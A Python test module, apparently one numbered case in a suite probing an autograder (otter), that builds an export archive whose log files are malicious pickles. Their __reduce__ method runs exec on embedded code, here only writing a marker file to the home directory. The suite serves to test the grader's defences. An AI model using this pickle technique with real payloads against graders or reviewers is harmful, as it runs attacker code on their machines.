"""An archive as otter's export makes it, whose log is a pickle that runs code."""

import io
import pickle
import zipfile
from pathlib import Path

ATTACK = {
    "number": 50,
    "name": "pickle-log",
    "tries": "To run code in whoever reads the log of otter's export archive: `.OTTER_LOG` and "
    "`_log.pkl` beside the notebook, inside the archive and beside it.",
    "must": "read no log of a student's.",
    "standing": "graded",
    "otter": "it would run the attack's code on the machine of whoever checks it",
    "needs": "",
}
NOTEBOOK = Path(__file__).parents[1] / "target" / "wrong.ipynb"
CODE = """
import pathlib
mark = pathlib.Path.home() / "attack-50-was-here"
mark.write_text("code of a student's ran here")
"""


class Payload:
    """Whoever loads its pickle runs the code."""

    def __reduce__(self):
        return exec, (CODE,)


def submission() -> dict[str, bytes]:
    """The archive, and the same log as a file of its own."""
    log = pickle.dumps(Payload())
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("target.ipynb", NOTEBOOK.read_bytes())
        made.writestr(".OTTER_LOG", log)
        made.writestr("_log.pkl", log)
        made.writestr("__zip_filename__", "target_2027.zip")
    return {"target_2027.zip": archive.getvalue(), "log.pkl": log}
